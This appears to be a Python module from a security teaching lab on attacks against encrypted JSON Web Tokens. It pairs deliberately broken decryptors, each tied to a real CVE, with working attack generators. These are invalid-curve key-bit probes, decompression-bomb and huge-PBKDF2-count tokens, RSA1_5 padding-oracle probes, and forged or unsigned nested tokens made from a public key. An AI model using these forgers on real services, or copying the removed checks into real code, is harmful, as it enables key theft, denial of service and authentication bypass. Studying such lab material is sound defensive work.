"""Attacks on encrypted tokens (JWE): vulnerable decryptors, each named for its real bug, and
the forgers that beat them.

Every vulnerable decryptor here is ``labkit.jwe.decrypt`` with ONE check taken out
(the line is marked ``# THE BUG``); everything else (parsing, lengths, the AEAD
tag) still applies. Each takes the arguments of ``labkit.jwe.decrypt`` and fills
in the same ``labkit.jwe.Work`` counters, so a notebook or test can show the
work an attacker made it do, and the hardened decryptor refusing with the
counters still at zero:

- ``ecdh_without_curve_check``: ECDH with the sender's ``epk`` point as given,
  on or off the curve (go-jose before 1.0.4, CVE-2016-9121; node-jose before
  0.9.3, GHSA-rvj9-8cvx-3vq9). ``invalid_curve_probe`` learns a bit of the
  recipient's private key per token from it.
- ``inflate_without_limit``: ``zip: DEF`` inflated with no cap (jwcrypto before
  1.5.6, CVE-2024-28102; go-jose before 2.6.3/3.0.3/4.0.1, CVE-2024-28180).
  ``zip_bomb`` mints the token with nothing but the public key.
- ``pbes2_without_p2c_limit``: PBKDF2 run for whatever ``p2c`` the token names
  (panva/jose before 4.9.2, 3.20.4, 2.0.6 and 1.28.2, CVE-2022-36083; Nimbus JOSE+JWT before 9.37.2,
  CVE-2023-52428; joserfc, CVE-2026-27932). ``huge_p2c`` needs no key at all.
- ``rsa1_5_length_oracle``: RSA1_5 accepted from the header (a downgrade from
  RSA-OAEP), and a wrongly sized CEK reported as its own error: a Bleichenbacher
  padding oracle (Authlib before 1.6.9, CVE-2026-28490). ``rsa1_5_probe`` makes
  the two tokens it tells apart.
- ``decrypt_and_trust``: whatever decrypts is believed, signed or not (the
  mistake behind jose-jwt issue #237: a JWE where a JWS was expected).
  ``mint`` forges such a token from the recipient's PUBLIC key.

DEMO ONLY: these decryptors exist to be attacked. Never use one to protect anything.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Collection
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric import padding as rsa_padding

from labkit import ecdsa, jwe, tokens
from labkit.errors import JweError, LabkitError
from labkit.jwe import Work

__all__ = [
    "InvalidCurveProbe",
    "decrypt_and_trust",
    "ecdh_without_curve_check",
    "huge_p2c",
    "inflate_without_limit",
    "invalid_curve_probe",
    "leaked_parity",
    "mint",
    "mint_unsigned_nested",
    "pbes2_without_p2c_limit",
    "rsa1_5_length_oracle",
    "rsa1_5_probe",
    "zip_bomb",
]

_CEK_LENGTH_ERROR = (
    "invalid CEK length"  # the oracle's tell (Authlib raised 'Invalid "cek" length')
)


# Invalid-curve points in ECDH-ES ---------------------------------------------------------------


def ecdh_without_curve_check(
    token: str | bytes,
    key: ec.EllipticCurvePrivateKey,
    *,
    algorithms: Collection[str],
    encryptions: Collection[str],
    work: Work | None = None,
    **options: Any,
) -> bytes:
    """ECDH-ES (P-256) with ``epk`` used as sent: CVE-2016-9121 (go-jose before 1.0.4).

    The shared secret is computed by hand, ``x(d * epk)``, with the textbook
    formulas that never use the curve's ``b``: so a point of ANOTHER curve
    ``y^2 = x^3 - 3x + b'`` is multiplied happily, and the result depends only
    on ``d`` modulo that point's (small) order.
    """
    work = work if work is not None else Work()
    parsed = jwe.parse(token)
    header = parsed.header
    alg = jwe._pick(header, "alg", frozenset(algorithms))
    enc = jwe._pick(header, "enc", frozenset(encryptions))
    spec, content = jwe.ALGORITHMS[alg], jwe.ENCRYPTIONS[enc]
    if spec.family != "ECDH-ES" or not isinstance(key, ec.EllipticCurvePrivateKey):
        return jwe.decrypt(token, key, algorithms=algorithms, encryptions=encryptions, work=work)
    epk = header.get("epk")
    if not isinstance(epk, dict):
        raise JweError("ECDH-ES needs an epk")
    x, y = (jwe._coordinate(epk, name, 32) for name in ("x", "y"))
    # THE BUG: no check that (x, y) lies on P-256 before the multiplication.
    work.ecdh += 1
    d = key.private_numbers().private_value
    shared = _affine_x(ecdsa.scalar_mult(d, (x, y, 1))).to_bytes(32, "big")
    apu, apv = jwe._b64_member(header, "apu"), jwe._b64_member(header, "apv")
    if spec.wrap_size is None:
        cek = jwe.concat_kdf(shared, enc, content.key_size, apu, apv)
    else:
        kek = jwe.concat_kdf(shared, alg, spec.wrap_size, apu, apv)
        cek = jwe._unwrap(kek, parsed.encrypted_key, content)
    work.aead += 1
    aad = parsed.protected.encode("ascii")
    return jwe._open(content, cek, parsed.iv, parsed.ciphertext, parsed.tag, aad)


@dataclass(frozen=True)
class InvalidCurveProbe:
    """Two ECDH-ES tokens on the order-2 point (x0, 0) of a curve that is not P-256.

    ``d * (x0, 0)`` is the point itself when ``d`` is odd (shared x = x0) and the
    point at infinity when ``d`` is even (x = 0, as the textbook conversion
    gives): whichever token decrypts tells the private key's lowest bit.
    """

    if_odd: str
    if_even: str
    x0: int


def invalid_curve_probe(plaintext: bytes = b"probe", x0: int = 5) -> InvalidCurveProbe:
    """The two probe tokens; any x0 whose (x0, 0) is not on P-256 works (5 is not)."""
    if (x0**3 - 3 * x0 + ecdsa.B) % ecdsa.P == 0:
        raise LabkitError(f"(x0, 0) with x0 = {x0} is on P-256; pick another x0")
    epk = {
        "kty": "EC",
        "crv": "P-256",
        "x": tokens.b64url_encode(x0.to_bytes(32, "big")),
        "y": tokens.b64url_encode(bytes(32)),
    }
    return InvalidCurveProbe(
        if_odd=_ecdh_token(x0.to_bytes(32, "big"), epk, plaintext),
        if_even=_ecdh_token(bytes(32), epk, plaintext),
        x0=x0,
    )


def leaked_parity(decryptor: Any, key: Any, probe: InvalidCurveProbe) -> int | None:
    """Send both probes; 1 or 0 is the private key's lowest bit, None if both were refused."""
    options = {"algorithms": ["ECDH-ES"], "encryptions": ["A256GCM"]}
    for bit, token in ((1, probe.if_odd), (0, probe.if_even)):
        try:
            decryptor(token, key, **options)
        except LabkitError:
            continue
        return bit
    return None


def _ecdh_token(shared: bytes, epk: dict[str, str], plaintext: bytes) -> str:
    """An ECDH-ES + A256GCM token whose CEK is derived from a shared secret we chose."""
    protected = tokens.b64url_encode(
        tokens.json_bytes({"alg": "ECDH-ES", "enc": "A256GCM", "epk": epk})
    )
    cek = jwe.concat_kdf(shared, "A256GCM", 32)
    iv = os.urandom(12)
    ciphertext, tag = jwe._seal(
        jwe.ENCRYPTIONS["A256GCM"], cek, iv, plaintext, protected.encode("ascii")
    )
    return ".".join((protected, "", *(tokens.b64url_encode(p) for p in (iv, ciphertext, tag))))


def _affine_x(point: tuple[int, int, int]) -> int:
    x, _, z = point
    z_inv = pow(z, ecdsa.P - 2, ecdsa.P)  # 0 for the point at infinity: no special case
    return x * z_inv * z_inv % ecdsa.P


# zip: DEF decompression bombs ------------------------------------------------------------------


def inflate_without_limit(
    token: str | bytes,
    key: Any,
    *,
    algorithms: Collection[str],
    encryptions: Collection[str],
    work: Work | None = None,
    **options: Any,
) -> bytes:
    """``zip: DEF`` inflated with no cap: CVE-2024-28102 (jwcrypto before 1.5.6).

    The token is small (the length bound passes), its plaintext is DEFLATE of
    millions of zero bytes: memory and CPU go to the attacker's chosen size.
    """
    return jwe.decrypt(
        token, key, algorithms=algorithms, encryptions=encryptions, work=work,
        allow_zip=True, max_inflated=sys.maxsize - 1,  # THE BUG: no cap on the inflated size
    )  # fmt: skip


def zip_bomb(public_key: Any, size: int = 10_000_000, *, alg: str = "RSA-OAEP-256") -> str:
    """A JWE whose plaintext inflates to ``size`` zero bytes; only the public key is needed."""
    return jwe.encrypt(bytes(size), public_key, alg=alg, enc="A256GCM", compress=True)


# Huge PBES2 p2c --------------------------------------------------------------------------------


def pbes2_without_p2c_limit(
    token: str | bytes,
    key: Any,
    *,
    algorithms: Collection[str],
    encryptions: Collection[str],
    work: Work | None = None,
    **options: Any,
) -> bytes:
    """PBKDF2 for whatever ``p2c`` the token says: CVE-2022-36083 (panva/jose before 4.9.2).

    The sender picks the iteration count, and the work happens before anything
    about the token can be checked: a token with random parts costs the
    service ``p2c`` PBKDF2 iterations, then fails.
    """
    return jwe.decrypt(
        token, key, algorithms=algorithms, encryptions=encryptions, work=work,
        max_p2c=2**62,  # THE BUG: p2c is not bounded
    )  # fmt: skip


def huge_p2c(p2c: int = 1_000_000, alg: str = "PBES2-HS256+A128KW") -> str:
    """A PBES2 token with random parts and a huge ``p2c``: it costs the service, needs no key."""
    content = jwe.ENCRYPTIONS["A128GCM"]
    header = {"alg": alg, "enc": "A128GCM", "p2s": tokens.b64url_encode(os.urandom(16))}
    header["p2c"] = p2c
    parts = (os.urandom(content.key_size + 8), os.urandom(12), os.urandom(16), os.urandom(16))
    protected = tokens.b64url_encode(tokens.json_bytes(header))
    return ".".join((protected, *(tokens.b64url_encode(p) for p in parts)))


# RSA1_5: the downgrade and its padding oracle ---------------------------------------------------


def rsa1_5_length_oracle(
    token: str | bytes,
    key: rsa.RSAPrivateKey,
    *,
    algorithms: Collection[str],
    encryptions: Collection[str],
    work: Work | None = None,
    **options: Any,
) -> bytes:
    """RSA1_5 taken from the header, and a wrong-length CEK reported apart: CVE-2026-28490.

    ``cryptography`` mostly answers a bad PKCS #1 v1.5 padding with random bytes
    of some length (implicit rejection, so no exception leaks it); Authlib before
    1.6.9 then raised 'Invalid "cek" length' before the AEAD ran, while a good
    padding reached the tag check and failed THERE: two answers, one bit per
    query about the padding. Bleichenbacher's 1998 attack turns such bits into
    the decryption of any captured encrypted key.
    """
    work = work if work is not None else Work()
    parsed = jwe.parse(token)
    if parsed.header.get("alg") != "RSA1_5":  # THE BUG (1): RSA1_5 accepted from the header
        return jwe.decrypt(token, key, algorithms=algorithms, encryptions=encryptions, work=work)
    enc = jwe._pick(parsed.header, "enc", frozenset(encryptions))
    content = jwe.ENCRYPTIONS[enc]
    work.rsa += 1
    try:
        cek = key.decrypt(parsed.encrypted_key, rsa_padding.PKCS1v15())
    except ValueError:
        cek = b""
    if len(cek) != content.key_size:
        raise JweError(_CEK_LENGTH_ERROR)  # THE BUG (2): an answer of its own for bad padding
    work.aead += 1
    aad = parsed.protected.encode("ascii")
    return jwe._open(content, cek, parsed.iv, parsed.ciphertext, parsed.tag, aad)


def rsa1_5_probe(public_key: rsa.RSAPublicKey, *, conforming: bool) -> str:
    """An RSA1_5 token whose encrypted key is (or is not) a PKCS #1 v1.5-conforming 32-byte CEK.

    Its content is random, so it never decrypts; what differs is the error.
    """
    size = public_key.key_size // 8
    if conforming:
        encrypted_key = public_key.encrypt(os.urandom(32), rsa_padding.PKCS1v15())
    else:  # a random number below n: almost never conforming
        n = public_key.public_numbers().n
        encrypted_key = (int.from_bytes(os.urandom(size), "big") % n).to_bytes(size, "big")
    protected = tokens.b64url_encode(tokens.json_bytes({"alg": "RSA1_5", "enc": "A256GCM"}))
    parts = (encrypted_key, os.urandom(12), os.urandom(24), os.urandom(16))
    return ".".join((protected, *(tokens.b64url_encode(p) for p in parts)))


# Encrypted is not authenticated ----------------------------------------------------------------


def decrypt_and_trust(
    token: str | bytes,
    key: Any,
    *,
    algorithms: Collection[str],
    encryptions: Collection[str],
    **options: Any,
) -> dict[str, Any]:
    """Decrypt (hardened, bounded) and believe the claims: the mistake, not a parser bug.

    A plaintext that is JSON is taken as the claims; a nested JWT is decoded
    without verifying its signature. Either way the service trusts whoever
    encrypted the token, and the recipient's PUBLIC key is all that takes.
    """
    plaintext = jwe.decrypt(token, key, algorithms=algorithms, encryptions=encryptions)
    if plaintext.count(b".") == 2 and not plaintext.lstrip().startswith(b"{"):
        return tokens.parse(plaintext).payload  # THE BUG: the inner JWT is never verified
    claims = tokens.load_json(plaintext, "decrypted claims", error=JweError)
    if not isinstance(claims, dict):
        raise JweError("the decrypted claims are not a JSON object")
    return claims  # THE BUG: decrypting proves nothing about who wrote these


def mint(
    claims: dict[str, Any],
    public_key: Any,
    *,
    alg: str = "RSA-OAEP-256",
    header: dict[str, Any] | None = None,
) -> str:
    """An encrypted token with any claims, made with the recipient's public key alone."""
    fields = {"typ": "JWT", **(header or {})}
    return jwe.encrypt(claims, public_key, alg=alg, enc="A256GCM", header=fields)


def mint_unsigned_nested(claims: dict[str, Any], public_key: Any) -> str:
    """A nested JWT (``cty: JWT``) whose inner token is unsigned (``alg: none``)."""
    inner = tokens.encode({"alg": "none", "typ": "JWT"}, claims, b"")
    # jwe.encrypt, not encrypt_jwt: encrypt_jwt refuses to wrap an unsigned JWT.
    return jwe.encrypt(
        inner.encode("ascii"), public_key, alg="RSA-OAEP-256", enc="A256GCM", header={"cty": "JWT"}
    )
